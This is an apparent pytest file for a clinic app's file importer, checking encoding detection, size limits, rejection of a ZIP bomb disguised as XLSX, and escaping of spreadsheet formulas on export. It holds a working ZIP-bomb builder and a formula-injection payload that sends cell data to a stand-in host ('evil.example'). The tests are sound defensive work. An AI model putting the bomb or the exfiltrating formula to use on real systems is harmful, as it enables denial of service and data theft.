"""Bad files: encodings, a 2 GB file, a ZIP bomb disguised as XLSX, formula cells; nothing is stored."""

from __future__ import annotations

import io
import os
import zipfile
from pathlib import Path
from typing import Any

import pytest

from clinicflow.core.models import Branch, Organization
from clinicflow.imports.files import FileProblem, detect_encoding, open_source, read_table
from clinicflow.imports.models import ImportJob, JobStatus
from clinicflow.imports.tests.helpers import run_file, write_csv, write_xlsx
from clinicflow.patients.models import Patient


@pytest.fixture(autouse=True)
def _media(settings: Any, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = str(tmp_path / "media")


RU = [
    ["Фамилия", "Имя", "Телефон", "Комментарий"],
    ["Иванова", "Анна", "+79161234567", "Постоянный клиент «VIP» №1"],
    ["Щукин", "Ёжик", "+79162223344", "съешь же ещё этих мягких французских булок"],
]
ZH = [
    ["姓", "名", "电话", "备注"],
    ["王", "小明", "+8613800138000", "老客户，喜欢激光项目"],
    ["李", "华", "+8613900139000", "第一次来访"],
]


@pytest.mark.parametrize(
    ("rows", "encoding", "expected"),
    [
        (RU, "utf-8", "utf-8"),
        (RU, "utf-8-sig", "utf-8-sig"),
        (RU, "cp1251", "cp1251"),
        (ZH, "utf-8", "utf-8"),
        (ZH, "gb18030", "gb18030"),
    ],
)
def test_encodings_are_detected_and_read(
    tmp_path: Path, rows: list[list[str]], encoding: str, expected: str
) -> None:
    path = write_csv(tmp_path / "x.csv", rows, encoding=encoding, delimiter=";")
    source = open_source(path, "csv")
    assert (source.encoding, source.delimiter) == (expected, ";")
    table = read_table(source)
    assert table.headers == rows[0]
    assert [cells for _line, cells in table.rows] == rows[1:]


def test_cp1251_and_gb18030_files_import(org: Organization, branch: Branch, tmp_path: Path) -> None:
    job = run_file(
        write_csv(tmp_path / "ru.csv", RU, encoding="cp1251", delimiter=";"),
        org=org,
        branch=branch,
        kind="patients",
    )
    assert (job.status, job.created) == (JobStatus.DONE, 2), job.message
    zh = [["姓名", "电话"], ["王小明", "+8613800138000"]]
    job = run_file(
        write_csv(tmp_path / "zh.csv", zh, encoding="gb18030"), org=org, branch=branch, kind="patients"
    )
    assert (job.status, job.created) == (JobStatus.DONE, 1), job.message
    names = sorted(Patient.objects.for_org(org).values_list("last_name", "first_name"))
    assert names == [("Иванова", "Анна"), ("Щукин", "Ёжик"), ("王小明", "")]


@pytest.mark.parametrize(
    "garbage", [bytes(range(128, 256)) * 40, os.urandom(4096) + b"\x00", b"\x98\x81" * 300]
)
def test_garbage_is_refused(garbage: bytes) -> None:
    with pytest.raises(FileProblem):
        detect_encoding(garbage)


def test_garbage_upload_stores_nothing(org: Organization, branch: Branch, tmp_path: Path) -> None:
    path = tmp_path / "junk.csv"
    path.write_bytes(b"\x98\x81" * 5000)
    with pytest.raises(FileProblem, match="encoding is not recognised"):
        run_file(path, org=org, branch=branch, kind="patients", columns={})
    assert ImportJob.objects.count() == 0 and not list((tmp_path / "media").rglob("*.csv"))


def test_a_2_gb_file_is_refused_by_size_before_reading(
    org: Organization, branch: Branch, tmp_path: Path
) -> None:
    path = tmp_path / "huge.csv"
    with path.open("wb") as fh:  # sparse: 2 GB on paper, nothing on disk
        fh.truncate(2 * 1024**3)
    with pytest.raises(FileProblem, match="the limit is"):
        open_source(path, "csv")
    from clinicflow.imports import services

    class Unreadable(io.RawIOBase):
        def read(self, *args: Any) -> bytes:
            raise AssertionError("the upload was read")

    with pytest.raises(FileProblem, match="the limit is"):
        services.store_upload(org=org, stream=Unreadable(), size=2 * 1024**3, filename="huge.csv")


def _bomb(path: Path) -> Path:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            chunk = b"\x00" * (1 << 20)
            for _ in range(300):  # 300 MiB of zeros, ~300 KiB compressed
                member.write(chunk)
    return path


def test_a_zip_bomb_disguised_as_xlsx_is_refused(org: Organization, branch: Branch, tmp_path: Path) -> None:
    path = _bomb(tmp_path / "bomb.xlsx")
    assert path.stat().st_size < 2 * 1024**2
    with pytest.raises(FileProblem, match="ZIP bomb"):
        open_source(path, "xlsx")
    with pytest.raises(FileProblem, match="ZIP bomb"), path.open("rb") as fh:
        from clinicflow.imports import services

        services.store_upload(org=org, stream=fh, size=path.stat().st_size, filename="bomb.xlsx")
    assert ImportJob.objects.count() == 0


def test_not_a_workbook_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "fake.xlsx"
    path.write_bytes(b"Last name,First name\nA,B\n")
    with pytest.raises(FileProblem, match="not a readable XLSX"):
        open_source(path, "xlsx")


def test_xlsx_formula_is_stored_as_text_and_exported_escaped(
    org: Organization, branch: Branch, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    rows = [
        ["Last name", "First name", "Phone"],
        [formula, "+Anna", "+79161234567"],
        ["@SUM(1)", "-1", "+79162223344"],
    ]
    job = run_file(write_xlsx(tmp_path / "f.xlsx", rows), org=org, branch=branch, kind="patients")
    assert (job.status, job.created) == (JobStatus.DONE, 2), job.message
    stored = sorted(Patient.objects.for_org(org).values_list("last_name", "first_name"))
    assert stored == [('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+Anna"), ("@SUM(1)", "-1")]
    # the exports elsewhere neutralise them (analytics.reports.export)
    from clinicflow.analytics.reports.base import Column, ReportContext, ReportResult, ReportSpec
    from clinicflow.analytics.reports.export import to_csv

    spec = ReportSpec(
        name="imported",
        title="Imported",
        description="",
        permission="reports.view",
        columns=(Column("last", "Last"), Column("first", "First")),
        compute=lambda ctx: ReportResult(rows=[]),
    )
    result = ReportResult(rows=[{"last": last, "first": first} for last, first in stored])
    out = to_csv(spec, None, result).decode("utf-8-sig")  # type: ignore[arg-type]
    assert out.splitlines()[1:] == [
        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",\'+Anna',
        "'@SUM(1),'-1",
    ]
    assert ReportContext  # the real report context type exists (export takes it for its header row)
